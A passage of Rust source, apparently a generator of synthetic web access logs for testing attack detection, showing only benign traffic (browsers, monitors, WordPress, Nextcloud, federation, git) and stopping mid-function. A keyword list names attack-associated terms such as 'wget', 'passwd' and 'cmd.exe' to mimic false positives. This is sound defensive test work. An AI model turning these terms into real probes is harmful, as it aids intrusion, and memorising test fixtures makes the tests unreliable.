//! Made-up access logs: an hour of people and programs that mean no harm, with attackers among them, drawn from a seed.
//!
//! Each source has an address of its own, and all of its variants are drawn: words, paths, programs, pauses, answers.

use std::collections::BTreeMap;

/// An address: its actor, and the request by which it must be acted upon, if it attacks.
pub(crate) struct Source {
    pub(crate) actor: &'static str,
    /// The number of the request, counted from one, by which CrowdSec's scenario for it would act.
    pub(crate) caught_by: Option<usize>,
}

/// A log in the order of its times, with the source behind each address.
pub(crate) struct Crowd {
    pub(crate) log: String,
    pub(crate) sources: BTreeMap<String, Source>,
}

/// A generator of numbers (SplitMix64).
struct Draw(u64);

impl Draw {
    fn number(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    /// A number below another.
    fn below(&mut self, end: usize) -> usize {
        (self.number() % end as u64) as usize
    }

    fn between(&mut self, from: f64, to: f64) -> f64 {
        from + (to - from) * (self.number() >> 11) as f64 / (1u64 << 53) as f64
    }

    /// Returns whether something of this chance happens.
    fn chance(&mut self, chance: f64) -> bool {
        self.between(0.0, 1.0) < chance
    }

    fn of<T: Copy>(&mut self, all: &[T]) -> T {
        all[self.below(all.len())]
    }

    /// Letters and digits that mean nothing.
    fn token(&mut self, letters: &str, length: usize) -> String {
        (0..length).map(|_| char::from(letters.as_bytes()[self.below(letters.len())])).collect()
    }

    fn browser(&mut self) -> String {
        let version = 115 + self.below(16);
        match self.below(7) {
            0 => format!(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{version}.0) Gecko/20100101 Firefox/{version}.0"
            ),
            1 => format!(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
            ),
            2 => format!(
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36 Edg/{version}.0.0.0"
            ),
            3 => format!(
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{} Safari/605.1.15",
                version % 7
            ),
            4 => format!(
                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
                version % 7
            ),
            5 => format!(
                "Mozilla/5.0 (Linux; Android 14; SM-S{}B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Mobile Safari/537.36",
                900 + self.below(30)
            ),
            _ => {
                format!("Mozilla/5.0 (X11; Linux x86_64; rv:{version}.0) Gecko/20100101 Firefox/{version}.0")
            }
        }
    }

    fn tool(&mut self) -> String {
        match self.below(5) {
            0 => format!("curl/8.{}.0", self.below(12)),
            1 => format!("python-requests/2.{}.0", 20 + self.below(13)),
            2 => "Go-http-client/1.1".to_owned(),
            3 => format!("okhttp/4.{}.0", self.below(13)),
            _ => format!("axios/1.{}.2", self.below(8)),
        }
    }

    fn robot(&mut self) -> &'static str {
        self.of(&[
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
            "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
        ])
    }
}

const LETTERS: &str = "abcdefghijklmnopqrstuvwxyz";
const DIGITS: &str = "0123456789";
/// Words that attacks share with those who write about them.
const TOPICS: &[&str] = &[
    "powershell",
    "curl",
    "wget",
    "shell",
    "bash",
    "union",
    "select",
    "telescope",
    "jenkins",
    "phpmyadmin",
    "wordpress",
    "backup",
    "config",
    "git",
    "docker",
    "passwd",
    "script",
    "alert",
    "sleep",
    "benchmark",
    "admin",
    "login",
    "cgi-bin",
    "actuator",
    "struts",
    "solr",
    "exec",
    "cmd.exe",
    "javascript",
    "onload",
    "iframe",
    "svg",
    "sql",
    "drop",
    "table",
    "owa",
    "outlook",
    "credentials",
    "environment",
    "server-status",
    "python",
    "nmap",
    "hydra",
    "nikto",
    "proxy",
];
const PLAIN: &[&str] = &[
    "tutorial",
    "recipes",
    "guide",
    "committee",
    "and",
    "or",
    "how to",
    "the",
    "2024",
    "for beginners",
    "vs",
    "best",
    "'n' roll",
    "\"quoted\"",
    "pasta",
    "review",
    "price",
    "in 10 minutes",
    "<b>",
    "1=1",
    "meeting",
    "notes",
    "tips",
];

fn encode(text: &str) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' => out.push(char::from(byte)),
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{byte:02X}")),
        }
    }
    out
}

const SITE: &str = "https://example.org";

/// A request, but for when and by whom.
#[derive(Clone)]
struct Request {
    method: &'static str,
    target: String,
    status: u16,
    bytes: usize,
    referer: String,
    agent: String,
    user: &'static str,
    protocol: &'static str,
}

fn get(target: impl Into<String>, status: u16, agent: &str) -> Request {
    Request {
        method: "GET",
        target: target.into(),
        status,
        bytes: 900,
        referer: "-".to_owned(),
        agent: agent.to_owned(),
        user: "-",
        protocol: "HTTP/1.1",
    }
}

fn post(target: impl Into<String>, status: u16, bytes: usize, agent: &str) -> Request {
    Request { method: "POST", bytes, ..get(target, status, agent) }
}

impl Request {
    fn from(mut self, page: &str) -> Request {
        self.referer = page.to_owned();
        self
    }

    fn within(self) -> Request {
        self.from(&format!("{SITE}/"))
    }
}

struct Log {
    draw: Draw,
    lines: Vec<(f64, usize, String)>,
    sources: BTreeMap<String, Source>,
}

impl Log {
    /// A new address. Honest ones have neighbours, among them attackers.
    fn source(&mut self, actor: &'static str, caught_by: Option<usize>) -> String {
        let ip = loop {
            let ip = format!(
                "{}.{}.{}.{}",
                self.draw.of(&[31, 62, 84, 93]),
                self.draw.below(3),
                self.draw.below(200),
                1 + self.draw.below(250)
            );
            if !self.sources.contains_key(&ip) {
                break ip;
            }
        };
        self.sources.insert(ip.clone(), Source { actor, caught_by });
        ip
    }

    fn add(&mut self, at: f64, ip: &str, request: Request) {
        let Request { method, target, status, bytes, referer, agent, user, protocol } = request;
        let second = at as i64;
        let (hour, minute, second) = (9 + second / 3600, second / 60 % 60, second % 60);
        let quote = |text: &str| text.replace('"', "\\\"");
        let line = format!(
            "{ip} - {user} [17/May/2026:{hour:02}:{minute:02}:{second:02} +0000] \"{method} {} {protocol}\" {status} {bytes} \"{}\" \"{}\"\n",
            quote(&target),
            quote(&referer),
            quote(&agent)
        );
        self.lines.push((at, self.lines.len(), line));
    }

    fn size(&mut self) -> usize {
        400 + self.draw.below(30_000)
    }

    /// A page that a browser shows, with its parts, some of which are gone.
    fn page(&mut self, at: f64, ip: &str, target: &str, agent: &str, referer: &str, parts: usize) {
        let bytes = self.size();
        self.add(at, ip, Request { bytes, ..get(target, 200, agent).from(referer) });
        for part in 0..parts {
            let ending = self.draw.of(&["js", "css", "webp", "woff2", "png"]);
            let status = if self.draw.chance(0.04) { 404 } else { self.draw.of(&[200, 200, 304]) };
            let when = at + self.draw.between(0.1, 2.0);
            let part = format!("/static/{part}.{ending}");
            self.add(when, ip, get(part, status, agent).from(&format!("{SITE}{target}")));
        }
    }

    fn article(&mut self) -> String {
        let (topic, number) = (self.draw.of(TOPICS), self.draw.below(900));
        match self.draw.below(6) {
            0 => "/".to_owned(),
            1 => format!(
                "/blog/{topic}-{}",
                self.draw.of(&["tips", "explained", "for-beginners", "vs-others"])
            ),
            2 => format!("/search?q={}", encode(&self.words())),
            3 => format!("/products/{topic}s?page={}", 1 + number % 9),
            4 => format!("/wiki/{topic}/{number}"),
            _ => format!("/article/{number}"),
        }
    }

    fn words(&mut self) -> String {
        let (topic, plain, end) = (self.draw.of(TOPICS), self.draw.of(PLAIN), self.draw.of(TOPICS));
        match self.draw.below(3) {
            0 => format!("{topic} {plain}"),
            1 => format!("{plain} {topic}"),
            _ => format!("{topic} {plain} {end}"),
        }
    }

    /// One person's visit: pages, with a broken link now and then.
    fn visit(&mut self, from: f64, ip: &str, agent: &str, pages: usize, parts: usize) {
        let mut at = from;
        let mut before =
            self.draw.of(&["-", "https://www.google.com/", "https://duckduckgo.com/"]).to_owned();
        for _ in 0..pages {
            let target = self.article();
            if self.draw.chance(0.06) {
                let path = target.split('?').next().unwrap_or_default().to_owned();
                self.add(at, ip, get(format!("{path}-old"), 404, agent).from(&before));
            } else {
                self.page(at, ip, &target, agent, &before, parts);
                before = format!("{SITE}{target}");
            }
            at += self.draw.between(4.0, 60.0);
        }
    }

    /// Somebody signs in, after mistakes.
    fn sign_in(&mut self, at: f64, ip: &str, agent: &str, mistakes: usize, wrong: u16) {
        let login = format!("{SITE}/login");
        self.add(at, ip, get("/login", 200, agent).within());
        for turn in 0..mistakes {
            self.add(at + 6.0 + 5.0 * turn as f64, ip, post("/login", wrong, 2210, agent).from(&login));
        }
        let at = at + 7.0 + 5.0 * mistakes as f64;
        self.add(at, ip, post("/login", 302, 0, agent).from(&login));
        self.page(at + 1.0, ip, "/account", agent, &login, 3);
    }

    fn people(&mut self) {
        for _ in 0..60 {
            let (ip, agent) = (self.source("a reader", None), self.draw.browser());
            let (at, pages) = (self.draw.between(0.0, 3000.0), 1 + self.draw.below(6));
            let parts = self.draw.of(&[0, 4, 9]);
            self.visit(at, &ip, &agent, pages, parts);
            if self.draw.chance(0.3) {
                let (mistakes, wrong) =
                    (self.draw.of(&[0, 0, 0, 1, 2, 3, 4]), self.draw.of(&[401, 200, 422]));
                self.sign_in(at + 20.0, &ip, &agent, mistakes, wrong);
            }
        }
        // Offices and carriers. The parts of some sites come from elsewhere, so no browser requests them here.
        for (actor, people, parts, pages, span) in [
            ("an office of ten", 10, 6, 12, 900.0),
            ("an office of ten, parts from elsewhere", 10, 0, 25, 1500.0),
            ("a carrier", 60, 3, 4, 1500.0),
            ("a carrier, parts from elsewhere", 120, 0, 4, 3000.0),
        ] {
            let ip = self.source(actor, None);
            for person in 0..people {
                let agent = self.draw.browser();
                let at = self.draw.between(0.0, span);
                self.visit(at, &ip, &agent, pages, parts);
                if person % 2 == 0 {
                    let mistakes = self.draw.of(&[0, 0, 0, 1, 2]);
                    let at = self.draw.between(0.0, span);
                    self.sign_in(at, &ip, &agent, mistakes, 401);
                }
                for path in [
                    "/favicon.ico",
                    "/apple-touch-icon.png",
                    "/manifest.json",
                    "/.well-known/change-password",
                ] {
                    if self.draw.chance(0.5) {
                        self.add(at + 1.0, &ip, get(path, 404, &agent));
                    }
                }
            }
        }
        // The site has moved, and search engines do not know yet.
        let ip = self.source("a carrier after a move", None);
        for _ in 0..100 {
            let (agent, at) = (self.draw.browser(), self.draw.between(0.0, 3300.0));
            let gone = format!("/old/{}/{}.html", self.draw.of(TOPICS), self.draw.below(5000));
            self.add(at, &ip, get(gone, 404, &agent).from("https://www.google.com/"));
            self.visit(at + 5.0, &ip, &agent, 2, 2);
        }
        // A search that answers each letter.
        for _ in 0..3 {
            let (ip, agent, words) = (self.source("a typist", None), self.draw.browser(), self.words());
            let at = self.draw.between(0.0, 3000.0);
            for end in (1..=words.len()).filter(|end| words.is_char_boundary(*end)) {
                let target = format!("/suggest?q={}", encode(&words[..end]));
                self.add(at + end as f64 / 4.0, &ip, get(target, 200, &agent).within());
            }
        }
        // Who runs the site signs in, and uses what scanners look for.
        for _ in 0..2 {
            let (ip, agent) = (self.source("an author", None), self.draw.browser());
            let start = self.draw.between(0.0, 2000.0);
            self.add(start, &ip, get("/wp-login.php", 200, &agent));
            self.add(
                start + 4.0,
                &ip,
                post("/wp-login.php", 302, 0, &agent).from(&format!("{SITE}/wp-login.php")),
            );
            for turn in 0..60 {
                let target = self.draw.of(&[
                    "/wp-admin/admin-ajax.php",
                    "/wp-admin/post.php?post=7&action=edit",
                    "/phpmyadmin/index.php",
                    "/jenkins/job/build/12/",
                    "/owa/",
                    "/server-status",
                    "/wp-admin/edit.php?author=3",
                ]);
                let bytes = self.size();
                let request =
                    if turn % 3 == 0 { post(target, 200, bytes, &agent) } else { get(target, 200, &agent) };
                self.add(start + 10.0 + 9.0 * f64::from(turn), &ip, request.within());
            }
        }
    }

    fn browsers_at_work(&mut self) {
        for _ in 0..2 {
            let (ip, agent) = (self.source("a gallery", None), self.draw.browser());
            let (start, gone) = (self.draw.between(0.0, 3000.0), self.draw.between(0.0, 0.5));
            for album in 0..2 {
                let (at, page) = (start + 25.0 * f64::from(album), format!("/gallery/{album}"));
                self.add(at, &ip, get(&page, 200, &agent).within());
                for picture in 0..150 {
                    let status = if self.draw.chance(gone) { 404 } else { 200 };
                    let target = format!("/thumb/{album}-{picture}.{}", self.draw.of(&["jpg", "webp"]));
                    self.add(
                        at + 1.0 + f64::from(picture) / 40.0,
                        &ip,
                        get(target, status, &agent).from(&format!("{SITE}{page}")),
                    );
                }
            }
        }
        // Pages that ask for news, some with a number against caches, some beyond the end of their session.
        for number in 0..3 {
            let (ip, agent) = (self.source("a page that polls", None), self.draw.browser());
            let (start, pause) = (self.draw.between(0.0, 1000.0), self.draw.of(&[0.5, 2.0, 5.0]));
            self.page(start, &ip, "/inbox", &agent, "-", 4);
            let ends = self.draw.below(300);
            let after = self.draw.of(&[401, 403, 200]);
            for turn in 0..300 {
                let status = if turn < ends { 200 } else { after };
                let target = match number % 3 {
                    0 => "/api/notifications".to_owned(),
                    1 => format!("/notifications?_={}", 1_779_008_400_000_u64 + turn as u64 * 500),
                    _ => "/graphql".to_owned(),
                };
                let request = if number % 3 == 2 {
                    post(target, status, 60, &agent)
                } else {
                    get(target, status, &agent)
                };
                self.add(start + 3.0 + pause * turn as f64, &ip, request.from(&format!("{SITE}/inbox")));
            }
        }
    }

    /// An application of many interfaces that goes on after its session has ended.
    fn forgotten_application(&mut self) {
        let (ip, agent) = (self.source("a forgotten application", None), self.draw.browser());
        let (status, pause, names) =
            (self.draw.of(&[403, 404, 401]), self.draw.between(10.0, 60.0), 12 + self.draw.below(10));
        self.page(5.0, &ip, "/board", &agent, "-", 3);
        let mut at = 10.0;
        while at < 900.0 {
            for name in 0..names {
                let target = format!("/board/{}/{name}", if name % 2 == 0 { "part" } else { "data" });
                let status = if at < 60.0 { 200 } else { status };
                self.add(
                    at + name as f64 / 10.0,
                    &ip,
                    get(target, status, &agent).from(&format!("{SITE}/board")),
                );
            }
            at += pause;
        }
    }

    fn programs(&mut self) {
        for number in 0..6 {
            let ip = self.source("a monitor", None);
            let agent = match number % 3 {
                0 => self.draw.tool(),
                1 => "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)".to_owned(),
                _ => "Prometheus/2.53.0".to_owned(),
            };
            let target = self.draw.of(&["/", "/health", "/actuator/health", "/status", "/server-status"]);
            let (pause, outage) = (self.draw.of(&[15.0, 30.0, 60.0]), self.draw.between(0.0, 3000.0));
            let mut at = self.draw.between(0.0, 30.0);
            while at < 3500.0 {
                let status = if (outage..outage + 400.0).contains(&at) { 503 } else { 200 };
                let method = self.draw.of(&["GET", "HEAD"]);
                self.add(at, &ip, Request { method, ..get(target, status, &agent) });
                at += pause;
            }
        }
        for _ in 0..10 {
            let ip = self.source("a reader of feeds", None);
            let agent = self.draw.of(&[
                "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)",
                "Tiny Tiny RSS/24.05 (https://tt-rss.org/)",
                "NetNewsWire (RSS Reader; https://netnewswire.com/)",
                "Java/17.0.2",
                "FreshRSS/1.24.1 (Linux; https://freshrss.org)",
                "-",
                "python-requests/2.31.0",
            ]);
            for feed in 0..8 {
                let status = self.draw.of(&[200, 304, 304, 404, 410]);
                let target = format!("/{}/{feed}/feed.xml", self.draw.of(TOPICS));
                let at = self.draw.between(0.0, 1700.0);
                self.add(at, &ip, get(&target, 304, agent));
                self.add(at + 1800.0, &ip, get(&target, status, agent));
            }
        }
        // A client that keeps files in step: it is asked for its password first, and looks whether a file is there.
        for number in 0..2 {
            let ip = self.source("a client that synchronises", None);
            let agent = self.draw.of(&[
                "Mozilla/5.0 (Linux) mirall/3.13.0 (Nextcloud)",
                "DAVx5/4.4 (dav4jvm; okhttp/4.12.0)",
                "rclone/v1.67.0",
                "git/2.45.1",
            ]);
            let (start, user) = (self.draw.between(0.0, 2000.0), self.draw.of(&["ann", "bob"]));
            for turn in 0..120 {
                let (at, ending) =
                    (start + f64::from(turn) / 5.0, self.draw.of(&["jpg", "md", "pdf", "docx", "zip"]));
                let path = format!("/remote.php/dav/files/{user}/{number}/{turn}.{ending}");
                if turn % 4 == 0 {
                    self.add(at, &ip, Request { method: "PROPFIND", ..get(&path, 401, agent) });
                }
                let there = if self.draw.chance(0.4) { 404 } else { 200 };
                self.add(at, &ip, Request { user, ..get(&path, there, agent) });
                self.add(at, &ip, Request { user, method: "PUT", ..get(&path, 201, agent) });
            }
        }
        // Search engines: fast, and mostly after links that others broke.
        for _ in 0..3 {
            let (ip, agent) = (self.source("a search engine", None), self.draw.robot());
            let (broken, pause) = (self.draw.of(&[0.05, 0.5, 0.95]), self.draw.of(&[0.4, 1.0, 3.0]));
            for turn in 0..300 {
                let status = if self.draw.chance(broken) { 404 } else { 200 };
                let target = match turn % 4 {
                    0 => format!("/products?page={turn}&sort={}", self.draw.of(&["asc", "desc"])),
                    1 => format!("/?author={turn}"),
                    _ => format!("/{}/{turn}", self.draw.of(TOPICS)),
                };
                self.add(30.0 + pause * f64::from(turn), &ip, get(target, status, agent));
            }
        }
        // Clients of an interface: they look things up, some of which are not there, and read lists page by page.
        for _ in 0..3 {
            let (ip, agent) = (self.source("a client of an interface", None), self.draw.tool());
            let (start, missing) = (self.draw.between(0.0, 1500.0), self.draw.between(0.0, 0.2));
            let pause = self.draw.of(&[0.3, 1.0, 4.0]);
            for turn in 0..250 {
                let at = start + pause * f64::from(turn);
                let status =
                    if self.draw.chance(missing) { self.draw.of(&[404, 400, 409, 422]) } else { 200 };
                let bytes = self.size();
                let request = match turn % 4 {
                    0 => post("/api/v1/orders", if status == 404 { 422 } else { 201 }, bytes, &agent),
                    1 => get(format!("/api/v1/items?page={turn}"), 200, &agent),
                    2 => get(format!("/api/v1/items?sku={}", self.draw.token(DIGITS, 6)), status, &agent),
                    _ => get(format!("/api/v1/orders/{turn}"), status, &agent),
                };
                self.add(at, &ip, request);
            }
            for turn in 0..20 {
                self.add(start + 55.0 * f64::from(turn), &ip, post("/oauth/token", 200, 1180, &agent));
            }
        }
        // Packages, films in pieces, post of applications, payments.
        let (ip, start) = (self.source("a package manager", None), self.draw.between(0.0, 3000.0));
        for turn in 0..200 {
            let target = format!("/debian/pool/{}/{turn}.deb", self.draw.of(TOPICS));
            let status = if self.draw.chance(0.1) { 404 } else { 200 };
            self.add(start + f64::from(turn) / 8.0, &ip, get(target, status, "Debian APT-HTTP/1.3 (2.6.1)"));
        }
        let (ip, agent) = (self.source("a film in pieces", None), self.draw.browser());
        for turn in 0..150 {
            self.add(f64::from(turn) * 0.7, &ip, get(format!("/film/seg{turn}.ts"), 200, &agent).within());
        }
        let (ip, start) = (self.source("a mail program", None), self.draw.between(0.0, 3000.0));
        for turn in 0..12 {
            let path = self.draw.of(&[
                "/autodiscover/autodiscover.xml",
                "/Autodiscover/Autodiscover.xml",
                "/autodiscover/autodiscover.json",
            ]);
            self.add(
                start + 20.0 * f64::from(turn),
                &ip,
                get(path, 404, "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0)"),
            );
        }
        let ip = self.source("a hook of payments", None);
        for turn in 0..40 {
            self.add(60.0 * f64::from(turn), &ip, post("/hooks/payment", 204, 0, "-"));
        }
    }

    /// Adds what one address of this name sends, at the times beside.
    fn session(&mut self, actor: &'static str, requests: Vec<(f64, Request)>) {
        let ip = self.source(actor, None);
        for (at, request) in requests {
            self.add(at, &ip, request);
        }
    }

    /// Programs of known applications: they open no page, send no language, and nothing led them here.
    fn applications(&mut self) {
        self.wordpress();
        self.nextcloud();
        self.federation();
        self.forges();
        self.builds_and_measurements();
        self.feeds_by_query();
    }

    fn wordpress(&mut self) {
        let folder = self.draw.of(&["", "", "/blog"]);
        // A site rings itself, once for each visitor whom a task is due for.
        let agent = format!("WordPress/6.{}; {SITE}{folder}", self.draw.below(9));
        let (mut at, mut own) = (self.draw.between(0.0, 60.0), Vec::new());
        while at < 3500.0 {
            let clock = format!("{folder}/wp-cron.php?doing_wp_cron={}.{at:.4}", 1_779_008_400 + at as u64);
            own.push((at, post(clock, 200, 0, &agent)));
            at += self.draw.between(5.0, 120.0);
        }
        self.session("WordPress, its clock", own);
        let ring = format!("{folder}/wp-cron.php");
        let (pause, agent) = (self.draw.of(&[60.0, 300.0]), self.draw.of(&["curl/8.5.0", "Wget/1.21.4"]));
        let rung = (0..11).map(|turn| (f64::from(turn) * pause, get(&ring, 200, agent))).collect();
        self.session("WordPress, a clock of the machine", rung);
        // Jetpack signs in the query; it comes now and then, or with much at once.
        let (mut sent, mut at) = (Vec::new(), self.draw.between(0.0, 600.0));
        while at < 3500.0 {
            for turn in 0..self.draw.of(&[1, 1, 2, 9]) {
                let target = format!(
                    "{folder}/xmlrpc.php?for=jetpack&token={}%3A1%3A0&timestamp={}&nonce={}&body-hash={}&signature={}",
                    self.draw.token(LETTERS, 32),
                    1_779_008_400 + at as u64,
                    self.draw.token(LETTERS, 10),
                    self.draw.token(LETTERS, 27),
                    self.draw.token(LETTERS, 27),
                );
                let bytes = self.size();
                sent.push((at + 0.4 * f64::from(turn), post(target, 200, bytes, "Jetpack by WordPress.com")));
            }
            at += self.draw.between(120.0, 900.0);
        }
        self.session("WordPress, Jetpack", sent);
        let agent = format!("wp-{}/25.{}", self.draw.of(&["android", "iphone"]), self.draw.below(9));
        let (start, mut sent) = (self.draw.between(0.0, 3000.0), Vec::new());
        for turn in 0..8 + self.draw.below(8) {
            let bytes = self.size();
            sent.push((start + 0.7 * turn as f64, post(format!("{folder}/xmlrpc.php"), 200, bytes, &agent)));
            let list = format!("{folder}/wp-json/wp/v2/posts?context=edit&page={}", 1 + turn);
            sent.push((start + 20.0 + 2.0 * turn as f64, get(list, 200, &agent)));
        }
        self.session("WordPress, its application", sent);
        for (actor, target, agent) in [
            (
                "WooCommerce, a payment",
                "/?wc-api=WC_Gateway_Paypal",
                "PayPal IPN ( https://www.paypal.com/ipn )",
            ),
            (
                "WooCommerce, a payment",
                "/?wc-api=wc_stripe",
                "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
            ),
            ("WooCommerce, a payment", "/wc-api/mollie_return", "Mollie.nl HTTP client/1.0"),
            ("WooCommerce, a shop's program", "/wp-json/wc/v3/orders", "WooCommerce API Client-PHP/3.1.0"),
        ] {
            let (pause, count) = (self.draw.between(1.0, 200.0), 3 + self.draw.below(14));
            let sent =
                (0..count).map(|turn| (10.0 + pause * turn as f64, post(target, 200, 2, agent))).collect();
            self.session(actor, sent);
        }
    }

    fn nextcloud(&mut self) {
        let folder = self.draw.of(&["", "", "/nextcloud"]);
        for number in 0..3 {
            let agent = match number {
                0 => format!(
                    "Mozilla/5.0 (Linux) mirall/3.{}.2 (Nextcloud, debian-6.1.0 ClientArchitecture: x86_64 OsArchitecture: x86_64)",
                    5 + self.draw.below(9)
                ),
                1 => format!("Mozilla/5.0 (Android) Nextcloud-android/3.{}.0", self.draw.below(31)),
                _ => format!("Mozilla/5.0 (iOS) Nextcloud-iOS/6.{}.0", self.draw.below(9)),
            };
            let (start, mut sent) = (self.draw.between(0.0, 900.0), Vec::new());
            let script = self.draw.of(&["/index.php", ""]);
            sent.push((start, get(format!("{folder}/status.php"), 200, &agent)));
            sent.push((start + 0.2, get(format!("{folder}/index.php/204"), 204, &agent)));
            sent.push((start + 1.0, post(format!("{folder}{script}/login/v2"), 200, 312, &agent)));
            // Until its user has agreed in the browser, the answer is 404.
            let (polls, pause) = (5 + self.draw.below(50), self.draw.of(&[1.0, 5.0]));
            for turn in 0..=polls {
                let status = if turn == polls { 200 } else { 404 };
                let poll = format!("{folder}{script}/login/v2/poll");
                sent.push((start + 2.0 + pause * turn as f64, post(poll, status, 2, &agent)));
            }
            let mut at = start + 3.0 + pause * polls as f64;
            for item in 0..12 {
                let size = self.draw.of(&[64, 128]);
                sent.push((
                    at + 0.1 * f64::from(item),
                    get(format!("{folder}/index.php/avatar/{item}/{size}"), 200, &agent),
                ));
            }
            while at < 3500.0 {
                let files = format!("{folder}/remote.php/dav/files/ann/");
                sent.push((at, Request { method: "PROPFIND", user: "ann", ..get(files, 207, &agent) }));
                for (more, name) in ["user_status/api/v1/user_status", "notifications/api/v2/notifications"]
                    .into_iter()
                    .enumerate()
                {
                    let target = format!("{folder}/ocs/v2.php/apps/{name}?format=json");
                    let status = self.draw.of(&[200, 304]);
                    sent.push((
                        at + 0.1 * (1 + more) as f64,
                        Request { user: "ann", ..get(target, status, &agent) },
                    ));
                }
                at += 30.0;
            }
            self.session("Nextcloud, a device", sent);
        }
        // A folder that is shared by its link: who has it reads and drops files, without an account.
        let (agent, start) =
            (self.draw.of(&["curl/8.5.0", "rclone/v1.67.0"]), self.draw.between(0.0, 3000.0));
        let mut sent = Vec::new();
        for turn in 0..40 {
            let at = start + 1.5 * f64::from(turn);
            let path = match turn % 2 {
                0 => format!("{folder}/public.php/webdav/{turn}.csv"),
                _ => format!("{folder}/public.php/dav/files/k3Jd9sXwq/{turn}"),
            };
            sent.push((at, Request { method: "PUT", ..get(&path, 201, agent) }));
            sent.push((at + 0.5, get(&path, 200, agent)));
        }
        self.session("Nextcloud, a shared folder", sent);
    }

    fn federation(&mut self) {
        let host = self.draw.token(LETTERS, 6);
        for (number, agent) in [
            format!("http.rb/5.1.1 (Mastodon/4.2.{}; +https://{host}.example/)", self.draw.below(12)),
            format!("Mastodon/4.4.{} (http.rb/5.2.0; +https://{host}.example/)", self.draw.below(5)),
            format!("Lemmy/0.19.{}; +https://{host}.example", self.draw.below(12)),
            format!("Pleroma 2.6.{}; https://{host}.example <admin@{host}.example>", self.draw.below(4)),
            format!("Misskey/2024.{}.1 (https://{host}.example)", 1 + self.draw.below(11)),
            format!("gotosocial/0.17.{} (+https://{host}.example)", self.draw.below(4)),
        ]
        .into_iter()
        .enumerate()
        {
            let (start, mut sent) = (self.draw.between(0.0, 1000.0), Vec::new());
            let webfinger = format!("/.well-known/webfinger?resource=acct:ann@{host}.example");
            sent.push((start, get(webfinger, 200, &agent)));
            sent.push((start + 1.0, get("/nodeinfo/2.0", 200, &agent)));
            let inbox = |number: usize| match number % 4 {
                0 => "/users/ann/inbox".to_owned(),
                1 => "/u/ann/inbox".to_owned(),
                2 => "/c/bread/inbox".to_owned(),
                _ => "/inbox".to_owned(),
            };
            let pause = self.draw.of(&[0.2, 1.0, 8.0]);
            for turn in 0..250 {
                let to = if self.draw.chance(0.7) { 3 } else { self.draw.below(4) };
                let status = self.draw.of(&[202, 202, 200, 401]);
                sent.push((start + 2.0 + pause * f64::from(turn), post(inbox(to), status, 0, &agent)));
            }
            for turn in 0..30 + self.draw.below(20) {
                let target = match (turn + number) % 5 {
                    0 => format!("/users/ann/statuses/11{turn:016}"),
                    1 => "/users/ann/collections/featured".to_owned(),
                    2 => format!("/post/{turn}"),
                    3 => format!("/u/{}", self.draw.token(LETTERS, 5)),
                    _ => format!("/users/{}/outbox", self.draw.token(LETTERS, 5)),
                };
                sent.push((start + 5.0 + 40.0 * turn as f64, get(target, 200, &agent)));
            }
            self.session("a server that federates", sent);
        }
        let (agent, start) =
            (format!("Synapse/1.{}.0", 90 + self.draw.below(30)), self.draw.between(0.0, 900.0));
        let mut sent = vec![(start, get("/.well-known/matrix/server", 200, &agent))];
        for turn in 0..300 {
            let target = format!("/_matrix/federation/v1/send/{}", 1_779_000_000_000_u64 + turn);
            let at = start + 1.0 + turn as f64 * 1.7;
            sent.push((at, Request { method: "PUT", ..get(target, 200, &agent) }));
            let event = format!("/_matrix/federation/v1/event/%24{}", self.draw.token(LETTERS, 30));
            sent.push((at + 0.3, get(event, self.draw.of(&[200, 200, 404]), &agent)));
        }
        self.session("Matrix, a server", sent);
        let start = self.draw.between(0.0, 900.0);
        let mut sent = Vec::new();
        for turn in 0..90 {
            let at = start + 25.0 * f64::from(turn);
            let agent =
                "Element/1.6.20 (Google Pixel 8; Android 14; Flavour GooglePlay; MatrixAndroidSdk2 1.6.20)";
            let sync = format!("/_matrix/client/v3/sync?timeout=30000&since=s{turn}_1");
            sent.push((at, get(sync, if turn < 3 { 401 } else { 200 }, agent)));
            sent.push((at + 3.0, post("/_matrix/client/v3/keys/query", 200, 700, agent)));
            sent.push((at + 4.0, get(format!("/_synapse/client/{turn}"), 200, agent)));
        }
        self.session("Matrix, an application", sent);
    }

    fn forges(&mut self) {
        // Somebody clones, pulls and pushes; each command asks first without a password.
        for ending in [".git", ""] {
            let agent = format!("git/2.{}.{}", 30 + self.draw.below(17), self.draw.below(4));
            let user = self.draw.of(&["-", "ann"]);
            let (mut at, mut sent) = (self.draw.between(0.0, 900.0), Vec::new());
            for turn in 0..4 + self.draw.below(12) {
                let name = format!("/ann/{}-{turn}{ending}", self.draw.of(TOPICS));
                let service = self.draw.of(&["git-upload-pack", "git-receive-pack"]);
